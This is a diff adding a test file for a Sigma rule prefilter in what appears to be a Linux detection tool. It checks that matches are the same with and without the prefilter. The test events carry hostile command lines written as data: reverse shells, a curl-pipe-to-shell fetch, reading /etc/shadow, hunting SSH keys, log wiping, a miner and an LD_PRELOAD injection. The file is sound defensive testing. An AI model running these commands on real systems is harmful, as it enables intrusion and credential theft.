@@ -1,0 +1,56 @@
+// The prefilter only skips rules that cannot match: with it and without it, every rule of Mamori's pack and
+// of SigmaHQ's Linux set finds exactly the same things on a varied stream of events.
+import { existsSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { TelemetryEvent } from '../../../../../preload/contract/index.js';
+import { loadRules, readRuleFolders, SigmaEngine } from '../../../../../main/core/detect/sigma/index.js';
+import { LiteralSet, regexLiteral } from '../../../../../main/core/detect/sigma/prefilter.js';
+import { execEventSource } from '../../../../../scripts/bench/lib/exec-events.js';
+
+const CORPORA = resolve(process.cwd(), '..', 'shared', 'corpora');
+
+describe('Sigma prefilter', () => {
+  it('regexLiteral finds text a match cannot do without, and nothing when unsure', () => {
+    expect(regexLiteral('/security/pam_[^/]+\\.so$')).toBe('/security/pam_');
+    expect(regexLiteral('^(\\S*/)?busybox\\s+nc\\s')).toBe('busybox');
+    expect(regexLiteral('a|b')).toBe('');
+    expect(regexLiteral('(?i)curl\\s')).toBe('curl');
+    expect(regexLiteral('colou?r')).toBe('colo');
+    expect(regexLiteral('\\x41BC')).toBe('BC'); // \x41 is one character, not "41"
+    expect(regexLiteral('ab{2}c')).toBe('a');
+    expect(regexLiteral('[/|]var/log')).toBe('var/log');
+  });
+
+  it('LiteralSet finds overlapping literals in one pass', () => {
+    const set = new LiteralSet([{ literal: 'bash', id: 0 }, { literal: 'sh', id: 1 }, { literal: 'ash -i', id: 2 }, { literal: 'zsh', id: 3 }]);
+    const marks = new Uint32Array(4);
+    const found: number[] = [];
+    set.mark('/bin/bash -i', marks, 1, found);
+    expect(found.sort()).toEqual([0, 1, 2]);
+  });
+
+  it('finds exactly what running every rule finds (own pack + SigmaHQ Linux)', () => {
+    const folders = [join(process.cwd(), 'rules', 'sigma'), join(CORPORA, 'sigma-linux', 'rules', 'linux'), join(CORPORA, 'sigma-linux-extra')].filter(existsSync);
+    const { rules, correlations } = loadRules(readRuleFolders(folders).sources);
+    // Exec events from the bench's generator, plus look-alikes of what the rules are about.
+    const events = execEventSource(4000, 3).next(4000).map((e, i) => ({ ...e, id: i + 1 }) as TelemetryEvent);
+    const lines = ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'busybox nc 1.2.3.4 80 -e sh', ': > /var/log/auth.log',
+      'curl http://x/a.sh | sh', 'echo aGVsbG8= | base64 -d | bash', 'python3 -c "import pty;pty.spawn(\'/bin/sh\')"', 'chmod u+s /tmp/x',
+      'iptables -F', 'xmrig -o stratum+tcp://p:3333', 'cat /etc/shadow', 'history -c', 'find / -name id_rsa', 'zip -P x a.zip /home'];
+    lines.forEach((cl, i) => {
+      const exe = `/usr/bin/${cl.split(' ')[0]}`;
+      events.push({ ...events[i]!, id: 10_000 + i, process: { ...events[i]!.process, executable: exe, name: cl.split(' ')[0]!, command_line: cl, args: cl.split(' ') } });
+    });
+    // List fields (environment, argv) are scanned too.
+    events.push({ ...events[0]!, id: 20_000, process: { ...events[0]!.process, env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x/evil.so'] } } as TelemetryEvent);
+    const run = (prefilter: boolean) => {
+      const engine = new SigmaEngine(rules, correlations, { prefilter });
+      return events.flatMap((e) => engine.evaluate(e).map((f) => `${f.event.id}:${f.rule.id}`));
+    };
+    const fast = run(true);
+    expect(fast.length).toBeGreaterThan(50);
+    expect(fast.some((f) => f.startsWith('20000:'))).toBe(true);
+    expect(fast).toEqual(run(false));
+  });
+});
